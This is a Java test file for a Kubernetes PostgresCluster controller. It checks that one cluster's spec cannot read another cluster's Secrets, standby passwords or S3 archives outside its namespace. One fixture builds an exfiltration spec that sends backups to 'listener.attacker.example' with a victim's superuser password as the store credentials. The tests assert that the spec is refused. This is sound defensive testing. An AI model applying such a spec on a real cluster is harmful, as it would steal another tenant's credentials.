package dev.metahooks.controllers.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.metahooks.api.Json;
import dev.metahooks.controllers.postgres.base.SecretMarks;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * What an editor of one PostgresCluster could reach of another cluster of the namespace through the spec: another
 * cluster's Secrets (named as store credentials, or as a standby's source) and archives outside the cluster's own.
 * Each attempt is refused with the spec left frozen, and no child names what was not given.
 */
class CrossClusterAccessTest {
  static final String VICTIM_SECRET = "orders-superuser";

  /** The namespace's other cluster's superuser Secret, given to that cluster only (as the hook generates it). */
  static ObjectNode victimSecret() {
    ObjectNode secret = Json.object().put("apiVersion", "v1").put("kind", "Secret");
    secret
        .putObject("metadata")
        .put("name", VICTIM_SECRET)
        .put("namespace", ObservedRequests.NAMESPACE)
        .putObject("labels")
        .put(SecretMarks.label("orders"), SecretMarks.GIVEN);
    secret
        .putObject("data")
        .put(
            "password",
            Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
    return secret;
  }

  /** A cluster whose store is the attacker's listener and whose access key is the victim's password. */
  static ObservedRequests exfiltrating() {
    ObjectNode spec =
        (ObjectNode) ObservedRequests.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
    ObjectNode s3 =
        spec.putObject("backup")
            .putObject("s3")
            .put("bucket", "loot")
            .put("endpoint", "http://listener.attacker.example:9000");
    s3.putObject("credentials")
        .put("secretName", VICTIM_SECRET)
        .put("accessKeyIdKey", "password")
        .put("secretAccessKeyKey", "password");
    ObservedRequests world = new ObservedRequests("billing", spec);
    world.secretsGiven = false;
    world.relatedSecrets.put(VICTIM_SECRET, victimSecret());
    return world;
  }

  @Test
  void anotherClustersSecretNamedAsStoreCredentialsIsRefusedAndNothingReferencesIt() {
    ObservedRequests world = exfiltrating();
    JsonNode answer = world.sync();

    assertThat(condition(answer, "SpecValid").path("status").asText()).isEqualTo("False");
    assertThat(condition(answer, "SpecValid").path("message").asText())
        .contains(
            "spec.backup.s3.credentials",
            "Secret orders-superuser (key password)",
            "use.postgrescluster.metahooks.dev/billing=true");
    assertThat(references(answer)).doesNotContain(VICTIM_SECRET);
    assertThat(answer.path("children")).isEmpty();
  }

  @Test
  void theSameSecretGivenToTheClusterIsUsed() {
    ObservedRequests world = exfiltrating();
    world
        .relatedSecrets
        .get(VICTIM_SECRET)
        .withObjectProperty("metadata")
        .withObjectProperty("labels")
        .put(SecretMarks.label("billing"), SecretMarks.GIVEN);
    JsonNode answer = world.sync();

    assertThat(condition(answer, "SpecValid").path("status").asText()).isEqualTo("True");
    assertThat(references(answer)).contains(VICTIM_SECRET);
  }

  @Test
  void aRunningClusterWhoseSecretIsNotGivenKeepsItsChildrenAsTheyAre() {
    ObservedRequests world = exfiltrating();
    JsonNode running = runningWithItsSecretsGiven(world);
    assertThat(references(running)).contains(VICTIM_SECRET);

    // The same spec once the Secret is no longer given (or was never marked, from before the mark
    // existed).
    world.secretsGiven = false;
    JsonNode frozen = world.sync();

    assertThat(condition(frozen, "SpecValid").path("status").asText()).isEqualTo("False");
    assertThat(names(frozen)).containsExactlyInAnyOrderElementsOf(names(running));
    assertThat(references(frozen)).containsExactlyInAnyOrderElementsOf(references(running));
  }

  @Test
  void
      aRunningClusterSyncedWithTheEarlierReleasesCustomizeAnswerIsServedAsBeforeUntilItsRulesAreAskedAgain() {
    ObservedRequests world = exfiltrating();
    JsonNode running = runningWithItsSecretsGiven(world);

    // Upgraded: Metacontroller syncs with the cached answer (no Secrets group) for up to 20
    // minutes: not a 422.
    world.secretsGiven = false;
    world.earlierCustomizeAnswer = true;
    JsonNode cached = world.sync();
    assertThat(condition(cached, "SpecValid").path("status").asText()).isEqualTo("True");
    assertThat(references(cached)).containsExactlyInAnyOrderElementsOf(references(running));

    // Asked again, the customize hook relates only what is given: refused, frozen.
    world.earlierCustomizeAnswer = false;
    assertThat(condition(world.sync(), "SpecValid").path("status").asText()).isEqualTo("False");
  }

  @Test
  void aStandbyOfAClusterThatDidNotGiveItsSecretsIsRefusedAndCopiesNoPassword() {
    ObjectNode spec =
        (ObjectNode) ObservedRequests.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
    spec.putObject("standby")
        .put("cluster", "orders")
        .put("host", "orders.shop.svc")
        .put("port", 5432);
    ObservedRequests world = new ObservedRequests("orders-follower", spec);
    world.secretsGiven = false;
    world.relatedSecrets.put(VICTIM_SECRET, victimSecret());
    ObjectNode replication = victimSecret();
    replication.withObjectProperty("metadata").put("name", "orders-replication");
    world.relatedSecrets.put("orders-replication", replication);

    JsonNode answer = world.sync();

    assertThat(condition(answer, "SpecValid").path("status").asText()).isEqualTo("False");
    assertThat(condition(answer, "SpecValid").path("message").asText())
        .contains(
            "spec.standby.credentials.superuserSecret",
            "Secret orders-superuser (key password)",
            "spec.standby.credentials.replicationSecret",
            "use.postgrescluster.metahooks.dev/orders-follower=true");
    assertThat(answer.path("children")).isEmpty();
    assertThat(answer.toString())
        .doesNotContain(
            Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void aPrefixOutsideTheNamespaceOrAtItsRootIsRefused() {
    for (String prefix : List.of("shop", "other-team/billing", "billing", "shopping/billing")) {
      ObjectNode spec =
          (ObjectNode) ObservedRequests.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
      spec.putObject("backup")
          .putObject("s3")
          .put("bucket", "backups")
          .put("region", "eu-west-1")
          .put("prefix", prefix);
      JsonNode answer = new ObservedRequests("billing", spec).sync();

      assertThat(condition(answer, "SpecValid").path("message").asText())
          .as(prefix)
          .contains(
              "spec.backup.s3.prefix: \""
                  + prefix
                  + "\" is not inside shop/ (such as shop/billing)");
      assertThat(answer.path("children")).as(prefix).isEmpty();
    }
  }

  @Test
  void aCloneOfAnotherNamespacesArchiveIsRefused() {
    ObjectNode spec =
        (ObjectNode) ObservedRequests.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
    spec.putObject("bootstrap")
        .putObject("clone")
        .put("cluster", "payroll")
        .putObject("s3")
        .put("bucket", "backups")
        .put("region", "eu-west-1")
        .put("prefix", "hr/payroll");
    JsonNode answer = new ObservedRequests("billing", spec).sync();

    assertThat(condition(answer, "SpecValid").path("message").asText())
        .contains("spec.bootstrap.clone.s3.prefix: \"hr/payroll\" is not under shop/");
    assertThat(answer.path("children")).isEmpty();
  }

  /** The world's cluster running, its Secrets given (as before the mark existed, or once labelled). */
  static JsonNode runningWithItsSecretsGiven(ObservedRequests world) {
    world.secretsGiven = true;
    world.relatedSecrets.clear();
    world.sync();
    world.runAllReady();
    return world.sync();
  }

  static JsonNode condition(JsonNode answer, String type) {
    for (JsonNode condition : answer.at("/status/conditions")) {
      if (type.equals(condition.path("type").asText())) {
        return condition;
      }
    }
    return Json.object();
  }

  static List<String> names(JsonNode answer) {
    List<String> names = new ArrayList<>();
    answer
        .path("children")
        .forEach(
            child ->
                names.add(child.path("kind").asText() + "/" + child.at("/metadata/name").asText()));
    return names;
  }

  /** Every Secret name a child refers to: secretKeyRef, Secret volumes. */
  static List<String> references(JsonNode answer) {
    List<String> names = new ArrayList<>();
    answer.path("children").forEach(child -> collect(child, names));
    return names;
  }

  private static void collect(JsonNode node, List<String> names) {
    if (node.isObject()) {
      if (node.has("secretKeyRef")) {
        names.add(node.at("/secretKeyRef/name").asText());
      }
      if (node.path("secret").has("secretName")) {
        names.add(node.at("/secret/secretName").asText());
      }
      node.forEach(child -> collect(child, names));
    } else if (node.isArray()) {
      node.forEach(child -> collect(child, names));
    }
  }
}
